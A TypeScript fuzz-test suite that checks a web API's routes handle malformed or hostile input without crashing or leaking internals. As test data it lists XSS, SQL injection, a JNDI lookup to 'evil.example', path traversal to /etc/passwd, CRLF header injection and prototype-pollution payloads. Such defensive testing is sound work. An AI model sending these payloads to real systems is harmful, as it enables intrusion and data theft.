import { randomUUID } from 'node:crypto'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Endpoint } from '#contract/wire/endpoint.ts'
import { endpointUrl } from '#contract/wire/endpoint.ts'
import { register } from '#test/builders/account-builders.ts'
import { openDesk } from '#test/builders/desk-builders.ts'
import { startTestApp, type TestApp } from '#test/start-test-app.ts'
import { contractEndpoints, deskEndpoints, nameOf } from './contract-endpoints.ts'
import { type RawReply, send, upload } from './raw-request.ts'
import { type Actor, addFittingLender, createActor, validInput } from './valid-inputs.ts'

let t: TestApp
let lender: { id: string; slug: string }
let actor: Actor
/** The token of an operator whose desk is open. */
let desk: string
/**
 * Sign-in and sign-up hash passwords, so they get fewer runs. `npm run test:slow` does thirty times as many of all.
 */
const slow = new Set(['POST /api/login', 'POST /api/onboarding/create-account', 'POST /api/reset-password'])
const runsOf = (name: string) => Math.ceil(Number(process.env['FUZZ_RUNS'] ?? 10) / (slow.has(name) ? 4 : 1))

beforeAll(async () => {
  t = await startTestApp({ env: { RATE_LIMIT_SCALE: '100000' } })
  lender = await addFittingLender(t)
  actor = await createActor(t)
  desk = (await openDesk(t)).token
})
afterAll(() => t.close())

const texts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202etxt',
  '\u200b',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '&lt;script&gt;',
  'javascript:alert(1)',
  `'; DROP TABLE users;--`,
  `' OR 1=1--`,
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: The placeholder itself is what is sent.
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00',
  '%c0%ae',
  'a\r\nX-Injected: 1',
  'true',
  'null',
  'NaN',
  '1e309',
  '-0',
  '0x10',
  '٣',
  '🏠'.repeat(500),
  'é'.normalize('NFD').repeat(300),
  'x'.repeat(10_000),
  'x'.repeat(60_000),
  '2026-02-30',
  '0000-01-01',
  '0001-01-01',
  '9999-12-31',
  '9999-99-99',
  '-271821-04-20',
] as const
const numbers = [
  0,
  -0,
  -1,
  0.1,
  1e-10,
  1e21,
  1e308,
  -1e308,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 63,
  999_999_999_999.99,
  0.005,
] as const

/** JSON values of wrong kinds, including some known to break parsers, databases and mail. */
const strange: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<unknown>(...texts) },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...numbers) },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [null], { length: -1 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constant(nested(500)) },
)

function nested(depth: number): unknown {
  let value: unknown = 'deep'
  for (let level = 0; level < depth; level++) value = level % 2 ? [value] : { value }
  return value
}

const strangeKey = fc.oneof(
  fc.constantFrom(
    'constructor',
    'toString',
    'id',
    'userId',
    'email',
    'accessLevel',
    '$where',
    'a.b',
    '',
    '__proto__.x',
  ),
  fc.string({ maxLength: 20 }),
)

/** Changes to a valid body or query: a key replaced, removed or added. */
const changes = fc.array(
  fc.record({ at: fc.nat(), kind: fc.constantFrom('replace', 'remove', 'add'), key: strangeKey, value: strange }),
  { minLength: 1, maxLength: 4 },
)

function changed(
  valid: Record<string, unknown>,
  list: readonly { at: number; kind: string; key: string; value: unknown }[],
  keys: readonly string[],
) {
  const result = new Map(Object.entries(valid))
  for (const { at, kind, key, value } of list) {
    const name = keys.length === 0 ? key : keys[at % keys.length]!
    if (kind === 'remove') result.delete(name)
    else result.set(kind === 'add' ? key : name, value)
  }
  return Object.fromEntries(result)
}

/** Returns copies of a value, each with a different string, at any depth, replaced. */
function withEachText(value: unknown, text: string): unknown[] {
  if (typeof value === 'string') return [text]
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, part]) =>
    withEachText(part, text).map((one) =>
      Array.isArray(value) ? value.with(Number(key), one) : { ...value, [key]: one },
    ),
  )
}

/** Returns a schema's field names, through any number of wrappers. */
function keysOf(schema: unknown): string[] {
  const shape = (schema as { shape?: object } | undefined)?.shape
  return shape ? Object.keys(shape) : []
}

/** Text that no reply may contain: stacks, paths, statements, and messages of the database or the ORM. */
const leakPattern =
  /\n\s+at |node_modules|\.(ts|js):\d+|\/(src|dist)\/server|drizzle|pglite|postgres|\bselect\b[^"]*\bfrom\b|insert into|update "|violates|duplicate key|syntax error|relation "|column "|invalid input syntax|byte sequence|ZodError|TypeError|undefined is not|Cannot read/i

/** Asserts that a reply isn't a 500, and that an error reply has only the contract's fields and leaks nothing. */
function expectSafeReply(endpoint: Endpoint, reply: RawReply): void {
  const shown = `${nameOf(endpoint)} → ${reply.status} ${reply.text.slice(0, 300)}`
  expect(reply.status, shown).toBeLessThan(500)
  expect(reply.headers.get('x-injected'), shown).toBeNull()
  if (reply.status < 400) return
  expect(reply.headers.get('content-type'), shown).toMatch(/^application\/json/)
  const body = JSON.parse(reply.text) as Record<string, unknown>
  expect(body['message'], shown).toEqual(expect.stringMatching(/\S/))
  expect(
    Object.keys(body).filter((key) => !['message', 'reason', 'details', 'fields', 'error', 'dealId'].includes(key)),
    shown,
  ).toEqual([])
  expect(reply.text, shown).not.toMatch(leakPattern)
  expect(reply.headers.get('x-content-type-options'), shown).toBe('nosniff')
  expect(reply.headers.get('cache-control'), shown).toBe('private, no-store')
  expect(reply.text.length, 'a reply must not echo the request').toBeLessThan(5000)
}

const isDesk = (endpoint: Endpoint) => deskEndpoints.includes(endpoint)

/** Returns a signed-in caller's token, from a new session for routes that end the session. */
async function tokenFor(endpoint: Endpoint): Promise<string> {
  if (isDesk(endpoint)) return desk
  return endpoint.method === 'DELETE' ? (await register(t)).token : actor.token
}

describe('random input never breaks a route, and is only rejected [DATA-02]', () => {
  const withBody = contractEndpoints.filter(({ body }) => body)
  it.each(withBody.map((one) => [nameOf(one), one] as const))('body of %s', async (name, endpoint) => {
    const valid = await validInput(t, endpoint, actor, lender)
    const keys = [...new Set([...keysOf(endpoint.body), ...Object.keys(valid.body as object)])]
    await fc.assert(
      fc.asyncProperty(changes, async (list) => {
        const body = changed(valid.body as Record<string, unknown>, list, keys)
        expectSafeReply(endpoint, await send(t, endpoint, { ...valid, body, token: await tokenFor(endpoint) }))
      }),
      { numRuns: runsOf(name), interruptAfterTimeLimit: 10_000 },
    )
    // Tests every field alone with every kind of wrong value.
    for (const key of keys)
      for (const value of [null, [], {}, true, '\u0000', '\ud800', 1e308, -1, 'x'.repeat(10_000), '<b onclick=x>'])
        expectSafeReply(
          endpoint,
          await send(t, endpoint, {
            ...valid,
            body: { ...(valid.body as object), [key]: value },
            token: await tokenFor(endpoint),
          }),
        )
  })

  it.each(withBody.map((one) => [nameOf(one), one] as const))(
    'unstorable text anywhere in the body of %s',
    async (_name, endpoint) => {
      for (const text of ['a\u0000b', '\u0000', 'a\ud800b']) {
        const valid = await validInput(t, endpoint, actor, lender)
        for (const body of withEachText(valid.body, text))
          expectSafeReply(endpoint, await send(t, endpoint, { ...valid, body, token: await tokenFor(endpoint) }))
      }
    },
  )

  it.each(withBody.map((one) => [nameOf(one), one] as const))('whole bodies of %s', async (_name, endpoint) => {
    const valid = await validInput(t, endpoint, actor, lender)
    const token = await tokenFor(endpoint)
    const withText = (text: string, headers: Record<string, string> = {}) =>
      send(t, endpoint, { ...valid, text, token, headers })
    for (const text of [
      '',
      '{',
      '[',
      '{"a":}',
      "{'a':1}",
      'undefined',
      '{"a":1}}',
      '\u0000',
      '\ufeff',
      'NaN',
      '{"a":1e',
      '"\\ud8"',
    ])
      expect((await withText(text)).status, text).toBe(400)
    for (const text of [
      'null',
      '[]',
      '0',
      '""',
      'true',
      '[[[]]]',
      JSON.stringify(nested(2000)),
      '1e999',
      '{"constructor":{"prototype":{"x":1}}}',
      '{"__proto__":{"isAdmin":true}}',
      '{"a":1,"a":2}',
    ])
      expectSafeReply(endpoint, await withText(text))
    const valued = JSON.stringify(valid.body)
    expect((await withText(valued.replace('{', '{"__proto__":{"accessLevel":"admin"},'))).status).toBe(400)
    expect((await withText(JSON.stringify({ ...(valid.body as object), pad: 'x'.repeat(64 * 1024) }))).status).toBe(413)
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'text/html',
      'application/jsonx',
      'json',
      'application/octet-stream',
    ]) {
      const reply = await withText(valued, { 'content-type': type })
      expect(reply.status, type).toBe(415)
      expectSafeReply(endpoint, reply)
    }
  })

  const withQuery = [...contractEndpoints, ...deskEndpoints].filter(({ query }) => query)
  it.each(withQuery.map((one) => [nameOf(one), one] as const))('query of %s', async (name, endpoint) => {
    const valid = isDesk(endpoint)
      ? { params: { id: randomUUID() }, query: {} }
      : await validInput(t, endpoint, actor, lender)
    const headers = { authorization: `Bearer ${await tokenFor(endpoint)}` }
    const keys = [...new Set([...keysOf(endpoint.query), ...Object.keys(valid.query ?? {})])]
    const ask = async (search: string) => {
      const url = endpointUrl(endpoint.path, { params: valid.params }) + search
      const reply = await t.fetch(url, { headers })
      expectSafeReply(endpoint, {
        status: reply.status,
        headers: reply.headers,
        text: reply.status < 400 ? '' : await reply.text(),
      })
      return reply.status
    }
    for (const key of keys)
      for (const value of [
        ...texts.filter((text) => text.isWellFormed() && text.length < 9000),
        ...numbers.map(String),
      ])
        await ask(`?${new URLSearchParams({ [key]: value })}`)
    for (const key of keys)
      for (const search of [
        `?${key}=a&${key}=b`,
        `?${key}[]=a`,
        `?${key}[$gt]=1`,
        `?${key}=%`,
        `?${key}=%ff%fe`,
        `?${key}`,
        `?__proto__[x]=1&${key}=1`,
      ])
        await ask(search)
    await fc.assert(
      fc.asyncProperty(
        fc.dictionary(fc.constantFrom(...keys, 'x'), fc.string({ unit: 'grapheme', maxLength: 60 })),
        async (query) => {
          await ask(`?${new URLSearchParams(query)}`)
        },
      ),
      { numRuns: runsOf(name) * 2 },
    )
  })

  const withParams = [...contractEndpoints, ...deskEndpoints].filter(({ path }) => path.includes(':'))
  it.each(withParams.map((one) => [nameOf(one), one] as const))('path of %s', async (name, endpoint) => {
    const { body } = isDesk(endpoint) ? { body: {} } : await validInput(t, endpoint, actor, lender)
    const ask = async (part: string) => {
      const reply = await t.fetch(endpoint.path.replace(/:\w+/, part), {
        method: endpoint.method,
        headers: {
          authorization: `Bearer ${isDesk(endpoint) ? desk : actor.token}`,
          ...(endpoint.body ? { 'content-type': 'application/json' } : {}),
        },
        ...(endpoint.body ? { body: JSON.stringify(body) } : {}),
      })
      expectSafeReply(endpoint, { status: reply.status, headers: reply.headers, text: await reply.text() })
    }
    for (const part of [
      '%',
      '%zz',
      '%ff',
      '%00',
      '%2e%2e',
      '%2F',
      '%5c',
      'a;b',
      'a'.repeat(3000),
      '%F0%9F%8F%A0',
      '__proto__',
      '',
    ])
      await ask(part)
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'grapheme', maxLength: 80 }), (text) =>
        ask(encodeURIComponent(text.toWellFormed())),
      ),
      { numRuns: runsOf(name) },
    )
  })
})

it('handles any content in token, key, host and forwarding headers without errors', async () => {
  const deals = contractEndpoints.find((one) => nameOf(one) === 'POST /api/deals')!
  const profile = contractEndpoints.find((one) => nameOf(one) === 'PATCH /api/user/profile')!
  const values = [
    '',
    ' ',
    'x'.repeat(5000),
    `'; drop`,
    '<script>',
    '../..',
    '\u00ff\u00fe',
    '[object Object]',
    '-1',
    '0',
    '1'.repeat(300),
  ]
  const names = [
    'authorization',
    'x-forwarded-for',
    'x-forwarded-host',
    'accept',
    'accept-encoding',
    'if-none-match',
    'cookie',
    'referer',
    'user-agent',
    'range',
  ]
  for (const [endpoint, name] of [[deals, 'idempotency-key'], ...names.map((one) => [profile, one])] as [
    Endpoint,
    string,
  ][]) {
    const { body } = await validInput(t, endpoint, actor, lender)
    for (const value of values)
      expectSafeReply(endpoint, await send(t, endpoint, { body, token: actor.token, headers: { [name]: value } }))
  }
})

it('rejects a 10 MB body with 413 before reading it, with or without Content-Length', async () => {
  for (const isAnnounced of [true, false]) {
    const sent = await upload(`${t.url}/api/contact`, 10 * 1024 * 1024, isAnnounced)
    expect(sent, `announced: ${isAnnounced}`).toBe(413)
  }
  expect((await t.fetch('/healthz')).status).toBe(200)
})
